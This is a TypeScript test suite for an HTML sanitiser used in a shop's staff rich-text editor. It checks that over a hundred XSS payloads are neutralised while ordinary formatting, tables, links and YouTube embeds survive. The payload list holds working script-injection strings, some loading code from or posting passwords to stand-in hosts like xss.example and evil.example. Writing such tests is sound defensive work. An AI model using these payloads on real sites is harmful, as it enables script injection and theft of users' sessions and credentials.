import { describe, expect, it } from 'vitest';
import { parseFragment, type DefaultTreeAdapterMap } from 'parse5';
import { sanitizeRichText, sanitizeSettingValue } from './rich-text.js';

type Node = DefaultTreeAdapterMap['node'];
type Element = DefaultTreeAdapterMap['element'];

const HTML_NAMESPACE = 'http://www.w3.org/1999/xhtml';
const SHOP = 'https://shop.example';
const TAGS = new Set(
  'h1 h2 h3 h4 h5 h6 p br hr strong b em i u s del mark sub sup ul ol li blockquote pre code a img table caption colgroup col thead tbody tfoot tr th td div iframe'.split(
    ' ',
  ),
);
const ATTRIBUTES = new Set(
  'href title target rel src alt width height allowfullscreen frameborder data-youtube-video start class colspan rowspan colwidth scope style span'.split(
    ' ',
  ),
);
const STYLE_PROPERTIES = new Set(['text-align', 'width', 'min-width']);
const YOUTUBE_PLAYER = /^https:\/\/www\.youtube-nocookie\.com\/embed\/[\w-]+(\?[^#]*)?$/;

const isElement = (node: Node): node is Element => 'tagName' in node;

function resolve(address: string): URL | null {
  try {
    return new URL(address, SHOP);
  } catch {
    return null;
  }
}

/**
 * What in `html`, parsed the way a browser parses it, could run script, load something other
 * than an allowed picture or player, send a form, or restyle the page. Empty when it is inert.
 */
function dangers(html: string): string[] {
  const found: string[] = [];
  const visit = (node: Node) => {
    if (isElement(node)) {
      const tag = node.tagName;
      if (node.namespaceURI !== HTML_NAMESPACE || !TAGS.has(tag)) found.push(`element <${tag}>`);
      for (const { name, value } of node.attrs) {
        if (!ATTRIBUTES.has(name)) found.push(`attribute ${name} on <${tag}>`);
        if (name === 'href' && !['http:', 'https:', 'mailto:', 'tel:'].includes(resolve(value)?.protocol ?? ''))
          found.push(`link to ${value}`);
        if (name === 'src' && tag === 'img') {
          const url = resolve(value);
          const allowed = url?.origin === SHOP ? url.pathname.startsWith('/files/') : /^\s*https:/i.test(value);
          if (!allowed) found.push(`picture from ${value}`);
        }
        if (name === 'src' && tag === 'iframe' && !YOUTUBE_PLAYER.test(value)) found.push(`frame of ${value}`);
        if (name === 'style') {
          for (const declaration of value.split(';').filter((part) => part.trim())) {
            const [property = '', ...rest] = declaration.split(':');
            if (!STYLE_PROPERTIES.has(property.trim().toLowerCase()) || /[\\(]/.test(rest.join(':'))) found.push(`style ${declaration}`);
          }
        }
      }
      if (tag === 'iframe' && !node.attrs.some((attr) => attr.name === 'src')) found.push('frame without an address');
      const target = node.attrs.find((attr) => attr.name === 'target')?.value;
      const rel = node.attrs.find((attr) => attr.name === 'rel')?.value.split(/\s+/) ?? [];
      if (target === '_blank' && !(rel.includes('noopener') && rel.includes('noreferrer'))) found.push('new tab without noopener');
    }
    if ('childNodes' in node) node.childNodes.forEach(visit);
  };
  parseFragment(html).childNodes.forEach(visit);
  return found;
}

/** The elements of `html` with their attributes in a fixed order, spaces in styles and rel order aside. */
function canonical(html: string): string {
  const render = (node: Node): string => {
    if (!isElement(node)) return 'value' in node ? node.value : '';
    const attributes = node.attrs
      .map(({ name, value }) => {
        if (name === 'style') return `${name}=${value.replace(/\s+/g, '').replace(/;$/, '')}`;
        if (name === 'rel') return `${name}=${value.split(/\s+/).sort().join(' ')}`;
        return `${name}=${value}`;
      })
      .sort();
    return `<${node.tagName} ${attributes.join(' ')}>${node.childNodes.map(render).join('')}</${node.tagName}>`;
  };
  return parseFragment(html).childNodes.map(render).join('');
}

/** The OWASP filter-evasion cheat sheet and its descendants, as staff might paste them. */
const payloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
  '<script src=//xss.example/x.js></script>',
  '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>',
  '<SCRIPT/SRC="http://xss.example/xss.js"></SCRIPT>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=http://xss.example/xss.js?< B >',
  '<SCRIPT SRC=//xss.example/.j>',
  '<SCRIPT a=">" SRC="httx://xss.example/xss.js"></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?><p>x</p>',
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  '<IMG SRC=`javascript:alert("XSS")`>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC= onmouseover="alert('xxs')">`,
  `<IMG onmouseover="alert('xxs')">`,
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  `<IMG SRC="jav\tascript:alert('XSS');">`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`,
  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  `<IMG DYNSRC="javascript:alert('XSS')">`,
  `<IMG LOWSRC="javascript:alert('XSS')">`,
  `<IMG SRC='vbscript:msgbox("XSS")'>`,
  `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<img src=1 href=1 onerror="javascript:alert(1)"></img>',
  '<img src="https://ok.example/a.png" onerror=alert(1)//',
  '<img src="/files/a.png" onload="alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="data:image/png;base64,iVBORw0KGgo=">',
  '<img src="http://insecure.example/a.png">',
  '<img src="/files/../v1/admin/users/search">',
  '<img src="/files/%2e%2e/v1/me">',
  '<img src="/\\evil.example/files/a.png">',
  '<img src="//evil.example/files/a.png">',
  '<img srcset="javascript:alert(1) 1x, https://ok.example/a.png 2x">',
  '<img src="https://ok.example/a.png" style="position:fixed;top:0;left:0;width:100vw;height:100vh">',
  '<a onmouseover="alert(document.cookie)">link</a>',
  '<a onmouseover=alert(document.cookie)>link</a>',
  `<A HREF="javascript:document.location='https://evil.example/'">XSS</A>`,
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JAVASCRIPT:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="jav&#x0D;ascript:alert(1)">x</a>',
  '<a href="&#x20;javascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="java&NewLine;script:alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="livescript:alert(1)">x</a>',
  '<a href="javascript:alert(1)" target=_blank>x</a>',
  '<a href="https://ok.example/" target="_blank" rel="opener">x</a>',
  '<a href="https://ok.example/" style="display:block;position:fixed;inset:0">overlay</a>',
  '<a href="mailto:a@b.example" onclick=alert(1)>x</a>',
  '<a href="tel:19006868" onfocus=alert(1) autofocus>x</a>',
  '<a href="https://ok.example/" ping="https://evil.example/">x</a>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48L3N2Zz4=#x"/></svg>',
  '<p><svg><p><style><img src=x onerror=alert(1)></style></p></svg></p>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<form action="https://evil.example/steal"><input name=password type=password></form>',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<keygen autofocus onfocus=alert(1)>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  '<iframe src=http://xss.example/scriptlet.html <<p>after</p>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://www.youtube.com/embed/abc" srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://www.youtube.com/embed/abc" onload="alert(1)"></iframe>',
  '<iframe src="https://www.youtube.com/embed/abc"><script>alert(1)</script></iframe>',
  '<iframe src="https://www.youtube.com/embed/abc">&lt;/iframe&gt;&lt;img src=x onerror=alert(1)&gt;</iframe>',
  '<iframe src="https://evil.example/embed/abc"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/abc"></iframe>',
  '<iframe src="https://evil.example@www.youtube.com.evil.example/embed/abc"></iframe>',
  '<iframe src="http://www.youtube.com/embed/abc"></iframe>',
  '<iframe src="//www.youtube.com/embed/abc"></iframe>',
  '<iframe src="https://www.youtube.com/redirect?q=https://evil.example/"></iframe>',
  '<iframe src="https://www.youtube.com:8443/embed/abc"></iframe>',
  '<iframe src="https://www.youtube.com/embed/../redirect?q=https://evil.example/"></iframe>',
  '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
  '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>',
  '<frame src=javascript:alert(1)>',
  '<object data="javascript:alert(1)"></object>',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4=" type="image/svg+xml">',
  '<embed src="javascript:alert(1)">',
  '<portal src="https://evil.example/"></portal>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<video poster=javascript:alert(1)></video>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<BODY ONLOAD=alert(1)>',
  '<body onpageshow=alert(1)>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<BGSOUND SRC="javascript:alert('XSS');">`,
  `<BR SIZE="&{alert('XSS')}">`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  '<LINK REL="stylesheet" HREF="http://xss.example/xss.css">',
  '<link rel=import href=https://evil.example/>',
  "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
  '<META HTTP-EQUIV="Link" Content="<http://xss.example/xss.css>; REL=stylesheet">',
  '<STYLE>BODY{-moz-binding:url("http://xss.example/xssmoz.xml#xss")}</STYLE>',
  '<STYLE>@im\\port\'\\ja\\vasc\\ript:alert("XSS")\';</STYLE>',
  '<STYLE TYPE="text/javascript">alert(\'XSS\');</STYLE>',
  `<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  '<style>*{x:expression(alert(1))}</style>',
  '<XSS STYLE="behavior: url(xss.htc);">',
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>+ADw-SCRIPT+AD4-alert(1);+ADw-/SCRIPT+AD4-',
  `<BASE HREF="javascript:alert('XSS');//">`,
  '<base href="https://evil.example/">',
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`,
  '<table style="width: calc(100% + expression(alert(1)))"><tr><td>x</td></tr></table>',
  '<td style="text-align: center; background: url(javascript:alert(1))">x</td>',
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  '<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029\'\\0029">',
  '<DIV STYLE="width: expression(alert(\'XSS\'));">',
  '<div style="x:\\65xpression(alert(1))">',
  '<div data-youtube-video onmouseover=alert(1)>x</div>',
  '<p onclick="alert(1)" style="color:red">x</p>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="text-align: center; position: fixed; inset: 0">x</p>',
  '<p style="text-align: expression(alert(1))">x</p>',
  '<h2 style="text-align:\\63 enter">x</h2>',
  '<span style="behavior:url(x.htc)">x</span>',
  '<code class="language-js" onclick=alert(1)>x</code>',
  '<ol start="1" onclick=alert(1)><li>x</li></ol>',
  `<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert('XSS')"></B></I></XML>`,
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
  '<noframes><img title="</noframes><img src onerror=alert(1)>"></noframes>',
  '<xmp><img title="</xmp><img src onerror=alert(1)>"></xmp>',
  '<title><img title="</title><img src onerror=alert(1)>"></title>',
  '<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>',
  '<template><script>alert(1)</script></template>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<p title="&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;">x</p>',
];

describe('rich text sanitiser', () => {
  it('has at least a hundred attacks to try', () => {
    expect(new Set(payloads).size).toBeGreaterThanOrEqual(100);
  });

  it.each(payloads)('leaves nothing that can run in %s', (payload) => {
    const clean = sanitizeRichText(payload);
    expect(dangers(clean)).toEqual([]);
    expect(clean).not.toMatch(/<script|javascript:|vbscript:|\son[a-z]+\s*=/i);
    // Cleaning again changes nothing a browser would see, so the stored value is stable.
    expect(canonical(sanitizeRichText(clean))).toBe(canonical(clean));
  });

  it('recognises the attacks before they are cleaned', () => {
    const missed = payloads.filter((payload) => dangers(payload).length === 0 && !/<script|javascript:|\son[a-z]+/i.test(payload));
    expect(missed).toEqual([]);
  });
});

describe('rich text from the staff editor', () => {
  const kept = {
    marks:
      '<p>Giá <strong>đậm</strong>, <em>nghiêng</em>, <u>gạch dưới</u>, <s>gạch ngang</s>, <mark>tô sáng</mark>, m<sup>2</sup>, H<sub>2</sub>O, <code>x &lt; y</code> &amp; “ngoặc”.</p>',
    headings:
      '<h1>Tổng quan</h1><h2 style="text-align: center">Nguồn cung</h2><h3 style="text-align: right">Giá bán</h3><h4>A</h4><h5>B</h5><h6 style="text-align: justify">C</h6><p style="text-align: left">Đoạn văn<br>dòng mới</p><hr>',
    lists:
      '<ul><li><p>Một</p></li><li><p>Hai</p><ul><li><p>Hai phẩy một</p></li></ul></li></ul><ol start="3"><li><p>Ba</p></li></ol><blockquote><p>Trích dẫn</p></blockquote>',
    code: '<pre><code class="language-typescript">const total = price * area; // &lt;b&gt; stays text</code></pre>',
    links:
      '<p><a target="_blank" rel="noopener noreferrer nofollow" href="https://senvang.vn/bao-cao">báo cáo</a>, <a href="/reports/ha-noi">nội bộ</a>, <a href="mailto:lienhe@senvang.vn">thư</a>, <a href="tel:19006868">gọi</a>, <a href="#muc-2">mục 2</a></p>',
    images: '<p><img src="/files/images/blogs/cover.png" alt="Bìa" title="Bìa báo cáo"><img src="https://cdn.senvang.vn/a.jpg" alt=""></p>',
    table:
      '<table style="min-width: 75px"><colgroup><col style="min-width: 25px"><col style="width: 120px"><col style="min-width: 25px"></colgroup><tbody><tr><th colspan="1" rowspan="1"><p>Quận</p></th><th colspan="2" rowspan="1" colwidth="120"><p>Giá (triệu/m²)</p></th></tr><tr><td colspan="1" rowspan="1"><p>Ba Đình</p></td><td colspan="1" rowspan="1" style="text-align: right"><p>1.867</p></td><td colspan="1" rowspan="1"><p>89,0</p></td></tr></tbody></table>',
    video:
      '<div data-youtube-video=""><iframe width="640" height="480" allowfullscreen="true" src="https://www.youtube-nocookie.com/embed/Lb6sVd3nR8k?start=30"></iframe></div>',
  };

  it.each(Object.entries(kept))('keeps %s as written', (_name, html) => {
    expect(canonical(sanitizeRichText(html))).toBe(canonical(html));
  });

  it("plays YouTube videos through the privacy-enhanced player and drops the extension's options that are not HTML", () => {
    const written =
      '<div data-youtube-video=""><iframe width="640" height="480" allowfullscreen="true" autoplay="false" disablekbcontrols="false" enableiframeapi="false" endtime="0" ivloadpolicy="0" loop="false" modestbranding="false" origin="" playlist="" src="https://www.youtube.com/embed/dQw4w9WgXcQ" start="0"></iframe></div>';
    expect(canonical(sanitizeRichText(written))).toBe(
      canonical(
        '<div data-youtube-video=""><iframe width="640" height="480" allowfullscreen="true" src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"></iframe></div>',
      ),
    );
  });

  it('adds noopener and noreferrer to a link opened in a new tab, and drops other targets', () => {
    expect(
      canonical(sanitizeRichText('<a href="https://a.example/" target="_blank">a</a><a href="/b" target="_top" rel="nofollow">b</a>')),
    ).toBe(canonical('<a href="https://a.example/" target="_blank" rel="noopener noreferrer">a</a><a href="/b" rel="nofollow">b</a>'));
  });

  it('keeps the text of what it removes, so nothing staff wrote silently disappears', () => {
    expect(sanitizeRichText('<section><span>Giữ chữ</span> <font color="red">này</font></section>')).toBe('Giữ chữ này');
  });
});

describe('settings', () => {
  it('cleans the settings shown as rich text and leaves the others as they are', () => {
    expect(sanitizeSettingValue('about_page', '<h2>Về chúng tôi</h2><script>alert(1)</script>')).toBe('<h2>Về chúng tôi</h2>');
    expect(sanitizeSettingValue('shop_name', 'Sen <Vàng> & Co')).toBe('Sen <Vàng> & Co');
  });
});
